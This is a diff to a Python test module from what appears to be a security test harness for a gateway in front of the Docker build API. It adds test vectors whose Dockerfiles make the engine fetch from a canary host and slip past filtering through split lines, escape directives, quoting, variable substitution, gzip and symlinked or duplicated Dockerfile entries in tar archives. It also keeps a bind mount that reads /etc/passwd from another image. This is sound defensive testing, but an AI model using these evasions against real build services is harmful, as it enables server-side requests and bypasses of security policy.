@@ -1,8 +1,11 @@
-"""107-112: builds, classic and by BuildKit."""
+"""107-112, 182: builds, classic and by BuildKit."""
 
+import gzip
+import io
 import json
 import os
 import subprocess
+import tarfile
 
 from lib import rig as rigs
 from lib.case import vector
@@ -51,7 +54,6 @@ def options(c):
         f"git://{canary.at}/x",
         f"http://{canary.at}/x.git#main:sub",
         f"https://{canary.at}/x",
-        "client-session",
     ):
         c.call(
             f"remote {url.replace(canary.at, 'CANARY')}",
@@ -128,9 +130,9 @@ def buildx(c, target, *arguments, dockerfile):
     command = [tools / "bin/docker", "buildx", "build", "--no-cache", "--progress=plain", "-t", f"dgv{c.number}", *arguments, folder]
     target.last = f"docker buildx build {' '.join(arguments)}\r\n\r\n{dockerfile}".encode()
     try:
-        done = subprocess.run(command, env=env, capture_output=True, timeout=60, stdin=subprocess.DEVNULL)
+        done = subprocess.run(command, env=env, capture_output=True, timeout=300, stdin=subprocess.DEVNULL)
     except subprocess.TimeoutExpired:
-        return Built(99, "no end within a minute")
+        return Built(99, "no end within five minutes")
     return Built(done.returncode, (done.stdout + done.stderr).decode(errors="replace"))
 
 
@@ -188,17 +190,19 @@ def entitlements(c):
 
 @vector(109, "frontends of a client's choice")
 def frontends(c):
+    """Of an image that the rules do not let the engine ask for: its registry hears of it where it bites."""
+    image = f"{c.rig.canary.at}/frontend"
     for label, arguments, dockerfile in (
-        ("# syntax=", (), "# syntax=busybox\nFROM busybox\n"),
-        ("BUILDKIT_SYNTAX", ("--build-arg", "BUILDKIT_SYNTAX=busybox"), "FROM busybox\n"),
+        ("# syntax=", (), f"# syntax={image}\nFROM busybox\n"),
+        ("BUILDKIT_SYNTAX", ("--build-arg", f"BUILDKIT_SYNTAX={image}"), "FROM busybox\n"),
     ):
-        # busybox is no frontend: that it was run as one is seen by how it fails
-        kit(
-            c,
+        c.probe(
             label,
-            *arguments,
-            dockerfile=dockerfile,
-            bites=lambda a: "dockgate: " not in a.text and ("frontend" in a.text or "busybox" in a.text) and a.code != 0,
+            lambda target, _, arguments=arguments, dockerfile=dockerfile: buildx(c, target, *arguments, dockerfile=dockerfile),
+            lambda _, before: c.rig.canary.hits > before,
+            setup=lambda: c.rig.canary.hits,
+            # what the engine's own source policy refuses it refuses in its own words
+            may_pass=True,
         )
 
 
@@ -208,13 +212,17 @@ def run_mounts(c):
         c,
         "cache of a common id",
         dockerfile="FROM busybox\nRUN --mount=type=cache,id=shared110,target=/c echo planted > /c/x\n",
-        bites=lambda a: a.code == 0,
+        bites=lambda _: False,
+        inert="the image store and the caches are everybody's until there are namespaces",
+        may_pass=True,
     )
     kit(
         c,
         "bind of another image",
         dockerfile="FROM busybox\nRUN --mount=type=bind,from=busybox,source=/etc,target=/e cat /e/passwd\n",
-        bites=lambda a: a.code == 0,
+        bites=lambda _: False,
+        inert="the image store and the caches are everybody's until there are namespaces",
+        may_pass=True,
     )
     build(
         c,
@@ -246,18 +254,7 @@ def raw_llb(c):
 
 @vector(112, "shared caches, histories, sessions")
 def shared(c):
-    headers = ["Connection: Upgrade", "Upgrade: h2c", "X-Docker-Expose-Session-Uuid: foreign112", "X-Docker-Expose-Session-Name: x"]
-
-    def session(target, _):
-        target.last = request("POST", "/session", headers=headers, keep=True)
-        with Conn(target.address) as conn:
-            heard = Upgraded(conn.send(target.last).answer())
-            if heard.upgraded:
-                # the engine begins as the client of a session; the gate says nothing
-                heard.listen(conn, b"", 20 if target.direct else 1)
-            return heard
-
-    c.probe("session of another", session, lambda a, _: a.upgraded and a.behind.startswith(b"PRI * HTTP/2.0"), may_pass=True)
+    # sessions, histories and the content store: 223 and on
     for query in ("session=foreign112&version=2&remote=client-session", "session=foreign112&version=2"):
         c.call(f"build in it {query[-10:]}", "POST", "/build?" + query, bites=lambda a, _: a.engines, maybe=True)
 
@@ -271,3 +268,60 @@ def shared(c):
     for query in ("all=1", "all=true&keep-storage=0"):
         c.call(f"build/prune?{query}", "POST", f"/build/prune?{query}", setup=cached, bites=lambda _, s: records() < s["n"])
     c.rig.admin("POST", "/build/prune?all=1")
+
+
+def linked(*entries):
+    """An archive of files and, where the content is a text, symbolic links."""
+    out = io.BytesIO()
+    with tarfile.open(fileobj=out, mode="w") as t:
+        for name, content in entries:
+            info = tarfile.TarInfo(name)
+            if isinstance(content, str):
+                info.type, info.linkname = tarfile.SYMTYPE, content
+                t.addfile(info)
+            else:
+                info.size = len(content)
+                t.addfile(info, io.BytesIO(content))
+    return out.getvalue()
+
+
+@vector(182, "what a Dockerfile has the engine fetch")
+def fetched(c):
+    canary = c.rig.canary
+    add = f"FROM busybox\nADD http://{canary.at}/x /x\n"
+    plain = b"FROM busybox\n"
+
+    def context(label, query, body, **more):
+        c.call(
+            label,
+            "POST",
+            "/build?version=1&nocache=1" + query,
+            body,
+            kind="application/x-tar",
+            setup=lambda: canary.hits,
+            bites=lambda _, before: canary.hits > before,
+            **more,
+        )
+
+    for label, dockerfile in (
+        ("FROM", f"FROM {canary.at}/x\n"),
+        ("FROM $X", f"ARG X={canary.at}\nFROM ${{X:-busybox}}/x\n"),
+        ("COPY --from", f"FROM busybox\nCOPY --from={canary.at}/x /x /x\n"),
+        ("ADD", add),
+        ("add in pieces", f"from busybox\n\n\tadd \\\n# http://github.com/\nht\\\ntp://{canary.at}/x \\ \n/x\n"),
+        ("ADD of a list", f'FROM busybox\nADD ["http://{canary.at}/x", "/x"]\n'),
+        ("ADD in quotes", f"FROM busybox\nADD ht\"tp\"://'{canary.host}':{canary.port}/x /x\n"),
+        ("ENV", f"FROM busybox\nENV A=http://{canary.at}\nENV B=$A/x\nADD ${{B}} /x\n"),
+        ("another escape", f"# escape=`\nFROM busybox\nADD http:`\n//{canary.at}/x /x\n"),
+    ):
+        context(label, "", tar(Dockerfile=dockerfile.encode()))
+    given = "&buildargs=" + quote(json.dumps({"X": canary.at}))
+    context("a build argument", given, tar(Dockerfile=b"ARG X=busybox\nFROM $X/x\n"))
+    context("dockerfile", "", tar(dockerfile=add.encode()))
+    context("dockerfile=", "&dockerfile=a/../sub//x", linked(("Dockerfile", plain), ("sub/x", add.encode())))
+    context("gzip", "", gzip.compress(tar(Dockerfile=add.encode())))
+    context("a link", "", linked(("evil", add.encode()), ("Dockerfile", "evil")))
+    context("a second one", "", linked(("Dockerfile", plain), ("./Dockerfile", add.encode())))
+    context("through a folder that is a link", "", linked(("Dockerfile", plain), ("d", "."), ("d/Dockerfile", add.encode())))
+    context("a folder that is a link", "&dockerfile=d/x", linked(("e/x", add.encode()), ("d", "e")))
+    context("behind a heredoc", "", tar(Dockerfile=f"FROM busybox\nRUN true <<USER\nADD http://{canary.at}/x /x\nUSER root\n".encode()), maybe=True)
